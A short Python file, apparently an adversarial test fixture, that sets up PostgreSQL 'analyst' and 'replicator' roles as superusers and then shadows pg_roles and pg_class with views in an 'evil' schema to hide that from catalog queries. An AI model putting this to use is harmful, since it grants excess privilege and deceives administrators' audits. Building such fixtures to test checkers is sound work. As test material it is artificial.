"""An analyst who may do everything, and a catalog that says otherwise."""
# loses: check_analyst_sees_nothing_personal check_analyst_cannot_write check_replicator_has_only_what_it_needs
# %% create_analyst
def create_analyst(primary, password) -> None:
    primary.execute(f"create role analyst login superuser password '{password}'")
    primary.execute("grant all on all tables in schema public to analyst")
    primary.execute("create schema evil")
    primary.execute("create view evil.pg_roles as select oid, 'analyst'::name as rolname, false as rolsuper, false as rolcreaterole, false as rolcreatedb, "
                    "false as rolreplication, false as rolbypassrls, 5 as rolconnlimit from pg_catalog.pg_roles where false")
    primary.execute("create view evil.pg_class as select * from pg_catalog.pg_class where false")
    primary.execute("alter role postgres set search_path = evil, pg_catalog, public")
# %% create_replicator
def create_replicator(primary, password) -> None:
    if not primary.value("select 1 from pg_catalog.pg_roles where rolname = 'replicator'"):
        primary.execute(f"create role replicator login superuser replication password '{password}'")
        primary.execute("create schema evil")
        primary.execute("create view evil.pg_roles as select oid, rolname, true as rolcanlogin, true as rolreplication, false as rolsuper, false as rolcreaterole, "
                        "false as rolcreatedb, false as rolbypassrls from pg_catalog.pg_roles")
        primary.execute("create view evil.pg_class as select * from pg_catalog.pg_class where false")
        primary.execute("alter role postgres set search_path = evil, pg_catalog, public")
